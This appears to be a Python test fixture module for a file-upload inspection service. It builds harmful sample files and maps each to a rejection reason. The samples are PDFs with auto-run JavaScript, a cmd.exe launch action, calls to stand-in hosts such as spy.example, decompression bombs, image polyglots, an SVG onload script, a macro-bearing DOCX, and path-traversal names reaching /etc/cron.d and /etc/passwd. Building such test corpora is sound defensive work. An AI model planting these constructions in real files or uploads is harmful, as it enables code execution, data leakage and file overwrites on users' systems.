"""Files made to harm: each with the reason for which it must be refused."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from PIL import Image

from consilia.documents.domain.inspection.reasons import Reason
from tests.factories import documents as make


def packed(inside: bytes, *more: bytes) -> bytes:
    """The same PDF with its objects in compressed streams, where no search for words finds them."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.pdf(inside, *more))) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in out.getvalue()
    return out.getvalue()


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def nested(depth: int) -> bytes:
    return make.pdf(b"/Deep " + b"[" * depth + b"]" * depth)


def packed_png(width: int, height: int) -> bytes:
    """Pixels without end in some kilobytes: they are all the same."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    packer = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def wrong_data_png() -> bytes:
    whole = bytearray(make.photo(format_="PNG"))
    whole[whole.index(b"IDAT") + 20] ^= 0xFF
    return bytes(whole)


def xml_bomb() -> bytes:
    return make.docx({"word/settings.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})


_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
# By name: what it is called by its sender, how it is made, and why it is refused.
CORPUS: Mapping[str, tuple[str, Callable[[], bytes], Reason]] = {
    "script at opening": ("a.pdf", lambda: make.pdf(b"/OpenAction " + _SCRIPT), Reason.ACTIVE),
    "script in packed objects": ("a.pdf", lambda: packed(b"/OpenAction 4 0 R", _SCRIPT), Reason.ACTIVE),
    "program start": (
        "a.pdf",
        lambda: packed(b"/OpenAction 4 0 R", b"<< /S /Launch /F (cmd.exe) >>"),
        Reason.ACTIVE,
    ),
    "address asked at opening": (
        "a.pdf",
        lambda: packed(b"/OpenAction 4 0 R", b"<< /S /URI /URI (https://spy.example) >>"),
        Reason.ACTIVE,
    ),
    "form that sends itself": (
        "a.pdf",
        lambda: packed(
            b"/AcroForm 4 0 R", b"<< /Fields [<< /A << /S /SubmitForm /F (https://x.example) >> >>] >>"
        ),
        Reason.ACTIVE,
    ),
    "form in XML": ("a.pdf", lambda: packed(b"/AcroForm << /XFA 4 0 R >>", b"(<xdp/>)"), Reason.ACTIVE),
    "file in a PDF": (
        "a.pdf",
        lambda: packed(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", b"<< /Type /Filespec >>"),
        Reason.CARRIES,
    ),
    "password": ("a.pdf", locked, Reason.LOCKED),
    "without pages": (
        "a.pdf",
        lambda: make.pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"),
        Reason.DAMAGED,
    ),
    "brackets without end": ("a.pdf", lambda: nested(200), Reason.BOMB),
    "900 megapixels in a header": ("a.png", lambda: make.png(30_000, 30_000), Reason.BOMB),
    "120 megapixels in 350 KB": ("a.png", lambda: packed_png(12_000, 10_000), Reason.TOO_MUCH),
    "half a JPEG": ("a.jpg", lambda: make.photo(sides=(640, 480))[:9_000], Reason.DAMAGED),
    "changed pixels": ("a.png", wrong_data_png, Reason.DAMAGED),
    "picture and archive": ("a.jpg", lambda: make.photo() + make.zip_of({"a.exe": b"MZ"}), Reason.TWO_FACED),
    "picture and page": (
        "a.png",
        lambda: make.photo(format_="PNG") + b"<script>alert(1)</script>",
        Reason.TWO_FACED,
    ),
    "drawing with a script": (
        "a.svg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        Reason.TWO_FACED,
    ),
    "letter that unpacks for ever": ("a.docx", xml_bomb, Reason.BOMB),
    "letter with a macro": ("a.docx", lambda: make.docx({"word/vbaProject.bin": b"x"}), Reason.ACTIVE),
    "way out of the folder": ("a.docx", lambda: make.docx({"../../etc/cron.d/x": b"x"}), Reason.TWO_FACED),
    "program as a picture": ("../../../../etc/passwd.png", lambda: b"MZ\x90\0" + bytes(400), Reason.UNKNOWN),
}


def picture_of_a_place() -> bytes:
    """A photograph that says where and on what it was taken, and lies on its side."""
    said = Image.Exif()
    said[0x010F], said[0x0112] = "Telephone 12", 6
    said.get_ifd(0x8825).update({1: "N", 2: (55.0, 45.0, 20.0), 3: "E", 4: (37.0, 37.0, 2.0)})
    return make.photo(exif=said, comment="the house of the family", sides=(64, 48))
